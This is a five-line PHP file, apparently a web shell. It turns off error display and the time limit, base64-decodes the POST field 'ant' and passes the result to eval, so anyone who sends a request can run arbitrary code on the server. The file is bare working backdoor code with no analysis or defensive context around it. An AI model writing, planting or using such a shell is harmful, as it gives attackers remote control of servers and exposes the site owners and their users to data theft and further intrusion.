<?php
@ini_set("display_errors", "0");
@set_time_limit(0);
$ant = base64_decode($_POST['ant']);
@eval($ant);
